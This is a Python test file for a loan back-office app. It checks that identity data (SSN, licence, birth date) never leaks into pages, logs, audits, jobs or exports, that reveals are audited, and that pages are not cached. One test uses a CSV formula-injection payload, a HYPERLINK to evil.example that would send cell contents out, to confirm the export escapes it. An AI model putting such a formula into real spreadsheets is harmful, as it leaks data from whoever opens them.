"""Sensitive values (SSN, driver's licence number, date of birth; business rules §12) stay out of every
back-office page, export, audit entry, log line, job argument and outbox row, except the reveal answer
itself, which needs a finance manager or an admin and a reason, is audited and is never cached.

The customer of each test has SSN ``900-12-3456``, licence ``D1234567`` and date of birth ``1985-06-15``;
the tests run a busy back-office session (list, page, reveals, fleet copy, status change, approval, export)
and then search everything that was written or shown for those values.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from typing import Any

import pytest
from rq.job import Job

from app.db import get_redis
from app.models import Application, AuditLog, Notification
from tests.admin.conftest import make_application, make_customer, signed_in, token

SSN, LICENCE, BIRTH = "900-12-3456", "D1234567", "1985-06-15"
PLAINTEXT = (SSN, LICENCE, BIRTH, "900123456")


def leaks(text: str) -> list[str]:
    return [value for value in PLAINTEXT if value in text]


def job_arguments() -> list[str]:
    """The arguments of every RQ job in Redis, as text."""
    redis = get_redis()
    found = []
    for key in redis.scan_iter("rq:job:*"):
        job_id = key.decode().split(":", 2)[2]
        if ":" in job_id:
            continue  # per-job side keys (dependents, results)
        try:
            job = Job.fetch(job_id, connection=redis)
        except Exception:  # noqa: BLE001 - a key that is not a job
            continue
        found.append(repr((job.args, job.kwargs, job.description)))
    return found


@pytest.fixture
def application(app) -> Application:
    return make_application(make_customer(name="Dana Cruz"))


def reveal(client: Any, application: Application, field: str, **form: str) -> Any:
    return client.post(
        f"/admin/application/review/reveal/?id={application.pk}",
        data={"field": field, "csrf_token": token(client), **form},
    )


def flatten(value: Any, depth: int = 0) -> str:
    """Everything a template could print from ``value``: documents as their stored fields, containers
    walked (a document's ``repr`` would hide what a template can reach)."""
    from mongoengine import Document, EmbeddedDocument

    if depth > 6:
        return ""
    if isinstance(value, (Document, EmbeddedDocument)):
        return json.dumps(value.to_mongo().to_dict(), default=str)
    if isinstance(value, dict):
        return " ".join(f"{key}={flatten(item, depth + 1)}" for key, item in value.items())
    if isinstance(value, (list, tuple, set)):
        return " ".join(flatten(item, depth + 1) for item in value)
    if callable(value):
        return ""
    return str(value)


def test_a_busy_review_session_leaves_no_sensitive_value_behind(app, client, application, caplog):
    from flask import template_rendered

    from app.services import notifications

    caplog.set_level(logging.DEBUG)
    contexts: list[str] = []

    def remember(sender: Any, template: Any, context: dict[str, Any], **extra: Any) -> None:
        contexts.append(f"{template.name}: " + flatten({k: v for k, v in context.items() if k != "self"}))

    template_rendered.connect(remember, app)
    signed_in(client, "finance_manager")
    shown: dict[str, str] = {}
    for path in (
        "/admin/application/",
        f"/admin/application/review/?id={application.pk}",
        "/admin/application/?search=dana",
    ):
        response = client.get(path)
        assert response.status_code == 200
        shown[path] = response.get_data(as_text=True)
    page = shown[f"/admin/application/review/?id={application.pk}"]
    assert "***-**-3456" in page and "*****4567" in page and "****-**-**" in page  # the masks are there

    for field, value in (("ssn", SSN), ("drivers_license_number", LICENCE), ("date_of_birth", BIRTH)):
        response = reveal(client, application, field, reason="identity_verification")
        assert response.status_code == 200 and response.get_json()["value"] == value
        assert response.headers["Cache-Control"] == "no-store"
    fleet = client.post(
        f"/admin/application/review/fleet/?id={application.pk}",
        data={"reason": "fleet_submission", "csrf_token": token(client)},
    )
    assert SSN in fleet.get_json()["text"] and fleet.headers["Cache-Control"] == "no-store"
    csrf = token(client)
    client.post(
        f"/admin/application/review/status/?id={application.pk}",
        data={"status": "contacted", "csrf_token": csrf},
    )
    client.post(
        f"/admin/application/review/approve/?id={application.pk}",
        data={
            "rate_kind": "apr",
            "rate": "4.9",
            "loan_term": "60",
            "down_payment": "3000",
            "monthly_payment": "480",
            "csrf_token": csrf,
        },
    )
    assert application.reload().status == "approved"
    export = client.get("/admin/application/export/csv/")
    assert export.status_code == 200
    shown["export"] = export.get_data(as_text=True)
    assert "Dana Cruz" in shown["export"]

    client = app.test_client()
    signed_in(client, "admin")
    for path in (
        "/admin/audit_log/",
        "/admin/audit_log/export/csv/",
        f"/admin/user/manage/?id={application.user.pk}",
        "/admin/user/",
        "/admin/notification/",
    ):
        shown[path] = client.get(path).get_data(as_text=True)
    for entry in AuditLog.objects:
        shown[f"audit {entry.action}"] = json.dumps(entry.to_mongo().to_dict(), default=str)
        if entry.action != "login_success":
            shown["details " + str(entry.pk)] = client.get(
                f"/admin/audit_log/details/?id={entry.pk}"
            ).get_data(as_text=True)
    for message in Notification.objects:
        shown[f"outbox {message.pk}"] = json.dumps(message.to_mongo().to_dict(), default=str)
        rendered = notifications.render(message)
        shown[f"rendered {message.pk}"] = f"{rendered.subject}\n{rendered.body}"
    template_rendered.disconnect(remember, app)
    assert contexts
    for index, context in enumerate(contexts):
        shown[f"template context {index}"] = context
    for index, arguments in enumerate(job_arguments()):
        shown[f"job {index}"] = arguments
    shown["logs"] = "\n".join(record.getMessage() for record in caplog.records)

    assert AuditLog.objects(action="pii_reveal").count() == 3
    assert AuditLog.objects(action="copy_to_fleet").count() == 1
    assert Notification.objects.count() >= 1  # the customer was told about the status changes
    leaked = {where: leaks(text) for where, text in shown.items() if leaks(text)}
    assert not leaked, leaked


def test_a_reveal_needs_a_known_field_and_a_reason_and_writes_the_audit_entry(app, client, application):
    signed_in(client, "finance_manager")
    for form in (
        {"field": "ssn"},
        {"field": "ssn", "reason": "curiosity"},
        {"field": "ssn", "reason": "other", "other_reason": "   "},
        {"field": "password_hash", "reason": "identity_verification"},
    ):
        response = reveal(client, application, **form)
        assert response.status_code == 422, form
        assert not leaks(response.get_data(as_text=True))
    assert AuditLog.objects(action="pii_reveal").count() == 0
    response = reveal(client, application, "ssn", reason="other", other_reason="lender asked by phone")
    assert response.status_code == 200
    entry = AuditLog.objects.get(action="pii_reveal")
    assert entry.reason == "other: lender asked by phone" and entry.details["field"] == "ssn"
    assert not leaks(json.dumps(entry.to_mongo().to_dict(), default=str))


def test_back_office_pages_are_never_cached(app, client, application):
    """The application page holds income, credit and contact data; no back-office page may stay in a
    browser's or a proxy's cache (the reveal answers say so themselves)."""
    signed_in(client, "finance_manager")
    for path in ("/admin/", "/admin/application/", f"/admin/application/review/?id={application.pk}"):
        response = client.get(path)
        assert response.status_code == 200
        assert "no-store" in response.headers.get("Cache-Control", ""), path
    assert "no-store" in client.get("/admin/login").headers.get("Cache-Control", "")


def test_exports_cannot_smuggle_spreadsheet_formulas(app, client):
    customer = make_customer(name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    application = make_application(customer, ssn=None)
    Application.objects(pk=application.pk).update_one(set__user_data__name=customer.name)
    signed_in(client, "finance_manager")
    rows = list(csv.reader(io.StringIO(client.get("/admin/application/export/csv/").get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + customer.name in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    client = app.test_client()
    signed_in(client, "admin")
    rows = list(csv.reader(io.StringIO(client.get("/admin/audit_log/export/csv/").get_data(as_text=True))))
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))]
